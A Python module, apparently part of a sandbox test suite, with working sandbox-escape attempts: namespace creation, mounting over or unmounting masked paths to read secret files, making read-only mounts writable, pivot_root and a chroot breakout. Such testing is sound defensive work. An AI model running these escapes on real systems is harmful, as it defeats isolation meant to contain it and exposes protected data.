"""Attacks by making, entering and rearranging namespaces, mounts and roots."""

import ctypes
import os
import signal
import struct
from collections.abc import Callable
from pathlib import Path

from .prelude import (
    LIBC,
    NEW_MOUNT,
    NEW_USER,
    NEW_UTS,
    NUMBERS,
    Targets,
    as_namespace_root,
    expose,
    first_success,
    in_child,
    refuse,
    syscall,
)

AT_HERE, MS_RDONLY, MS_REMOUNT, MS_BIND, DETACH = -100, 1, 32, 4096, 2


def unshare_user_namespace(_: Targets) -> str:
    def unshare() -> str:
        syscall("unshare", NEW_USER)
        return "is in a user namespace of its own"

    return in_child(unshare)


def clone_user_namespace(_: Targets) -> str:
    return born(lambda: LIBC.syscall(NUMBERS["clone"], ctypes.c_long(NEW_USER | signal.SIGCHLD), *[None] * 4))


def clone3_user_namespace(_: Targets) -> str:
    arguments = struct.pack("8Q", NEW_USER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    return born(lambda: LIBC.syscall(NUMBERS["clone3"], arguments, ctypes.c_long(len(arguments))))


def born(clone: Callable[[], int]) -> str:
    """Clone without libc; the child ends at once."""
    child = clone()
    if child == 0:
        os._exit(0)
    if child < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.waitpid(child, 0)
    return "a child was born in a user namespace of its own"


def mount_tmpfs(targets: Targets) -> str:
    def mount() -> str:
        syscall("mount", b"none", targets["project"].encode(), b"tmpfs", 0, None)
        return "mounted over the project"

    return as_namespace_root(NEW_MOUNT, mount)


def bind_mount_root(targets: Targets) -> str:
    def mount() -> str:
        place = Path(targets["project"], "root")
        place.mkdir(exist_ok=True)
        recursive = 16384
        syscall("mount", b"/", str(place).encode(), None, MS_BIND | recursive, None)
        return "mounted the root elsewhere"

    return as_namespace_root(NEW_MOUNT, mount)


def mount_by_new_api(targets: Targets) -> str:
    def mount() -> str:
        context = syscall("fsopen", b"tmpfs", 0)
        syscall("fsconfig", context, 6, None, None, 0)
        made = syscall("fsmount", context, 0, 0)
        syscall("move_mount", made, b"", AT_HERE, targets["project"].encode(), 4)
        return "mounted by fsopen and move_mount"

    return as_namespace_root(NEW_MOUNT, mount)


def uncover_by_unmounting(targets: Targets) -> str:
    """Take away what covers the secret, or failing that any mount at all."""

    def uncover() -> str:
        syscall("umount2", targets["masked"].encode(), DETACH)
        return expose(Path(targets["masked_file"]).read_bytes(), targets)

    def any_of_them() -> str:
        points = [line.split()[4] for line in Path("/proc/self/mountinfo").read_text("utf-8").splitlines()]
        return first_success([lambda point=point: unmount(point) for point in reversed(points)])

    return first_success([lambda: in_child(uncover), lambda: in_child(any_of_them)])


def unmount(point: str) -> str:
    syscall("umount2", point.encode(), DETACH)
    return f"unmounted {point}"


def uncover_by_cloning_tree(targets: Targets) -> str:
    """A clone of a tree without its submounts shows what they cover."""
    clone, close_on_exec = 1, os.O_CLOEXEC

    def uncover() -> str:
        around = Path(targets["masked"]).parent
        tree = syscall("open_tree", AT_HERE, str(around).encode(), clone | close_on_exec)
        secret = os.open(Path(targets["masked_file"]).relative_to(around), os.O_RDONLY, dir_fd=tree)
        return expose(os.read(secret, 4096), targets)

    return in_child(uncover)


def make_read_only_writable(targets: Targets) -> str:
    def remount() -> str:
        place = targets["read_only"]
        syscall("mount", None, place.encode(), None, MS_REMOUNT | MS_BIND, None)
        Path(place, "written.txt").write_text("written", "utf-8")
        return "wrote to what was read-only"

    return in_child(remount)


def make_read_only_writable_by_attributes(targets: Targets) -> str:
    def remount() -> str:
        place = targets["read_only"]
        attributes = struct.pack("QQQQ", 0, MS_RDONLY, 0, 0)
        syscall("mount_setattr", AT_HERE, place.encode(), 0, attributes, len(attributes))
        Path(place, "written.txt").write_text("written", "utf-8")
        return "wrote to what was read-only"

    return in_child(remount)


def pivot_root(targets: Targets) -> str:
    def pivot() -> str:
        os.chdir(targets["mount_point"])
        syscall("pivot_root", b".", b".")
        return "pivoted to another root"

    return in_child(pivot)


def escape_chroot(targets: Targets) -> str:
    """The classic: chroot once more while holding a directory outside the new root, then walk up from there."""

    def escape() -> str:
        Path(targets["jail_scratch"]).mkdir(exist_ok=True)
        outside = os.open(".", os.O_RDONLY)
        os.chroot(targets["jail_scratch"])
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return expose(Path(targets["home_secret"]).read_bytes(), targets)

    return in_child(escape)


def change_hostname(_: Targets) -> str:
    def change() -> str:
        syscall("sethostname", b"hostile", 7)
        if os.uname().nodename != "hostile":
            raise refuse("the name did not change")
        return "changed the hostname"

    return as_namespace_root(NEW_UTS, change)
